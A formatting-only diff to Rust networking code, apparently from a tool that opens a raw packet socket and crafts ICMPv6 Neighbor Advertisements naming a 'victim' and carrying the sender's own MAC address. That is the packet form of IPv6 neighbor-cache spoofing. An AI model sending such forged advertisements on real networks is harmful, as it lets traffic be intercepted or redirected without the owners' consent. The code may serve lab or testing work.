@@ -79,18 +79,16 @@ pub(super) fn count(socket: &impl AsFd, bytes: &[u8]) -> Result<usize> {
 
 /// A packet socket that sends frames by one interface of the calling thread's namespace.
 pub(super) fn sender(interface: &str) -> Result<OwnedFd> {
-    let socket =
-        socket(AddressFamily::Packet, SockType::Raw, SockFlag::SOCK_CLOEXEC, None)
-            .context("open a packet socket")?;
+    let socket = socket(AddressFamily::Packet, SockType::Raw, SockFlag::SOCK_CLOEXEC, None)
+        .context("open a packet socket")?;
     bind(socket.as_raw_fd(), &link_address(interface)?)
         .with_context(|| format!("bind a packet socket to {interface}"))?;
     Ok(socket)
 }
 
 fn link_address(interface: &str) -> Result<LinkAddr> {
-    let mut links = getifaddrs().context("getifaddrs")?.filter(|link| {
-        link.interface_name == interface
-    });
+    let mut links =
+        getifaddrs().context("getifaddrs")?.filter(|link| link.interface_name == interface);
     let address = links.find_map(|link| link.address?.as_link_addr().copied());
     address.with_context(|| format!("no interface {interface}"))
 }
@@ -172,17 +170,16 @@ fn advertisement(victim: &Victim, own: [u8; 6]) -> Vec<u8> {
     let mut message =
         [&[136, 0, 0, 0, 0x20, 0, 0, 0][..], &target, &[2, 1], &own, &option].concat();
     let length = u16::try_from(message.len()).unwrap_or_default().to_be_bytes();
-    let pseudo =
-        [&target[..], &everybody, &[0, 0], &length, &[0, 0, 0, 58], &message].concat();
+    let pseudo = [&target[..], &everybody, &[0, 0], &length, &[0, 0, 0, 58], &message].concat();
     message[2..4].copy_from_slice(&checksum(&pseudo).to_be_bytes());
     [&[0x60, 0, 0, 0, length[0], length[1], 58, 255][..], &target, &everybody, &message].concat()
 }
 
 /// The internet checksum (RFC 1071).
 fn checksum(bytes: &[u8]) -> u16 {
-    let words = bytes.chunks(2).map(|pair| {
-        u32::from(pair[0]) << 8 | pair.get(1).map_or(0, |low| u32::from(*low))
-    });
+    let words = bytes
+        .chunks(2)
+        .map(|pair| u32::from(pair[0]) << 8 | pair.get(1).map_or(0, |low| u32::from(*low)));
     let mut sum: u32 = words.sum();
     while sum > 0xffff {
         sum = (sum & 0xffff) + (sum >> 16);
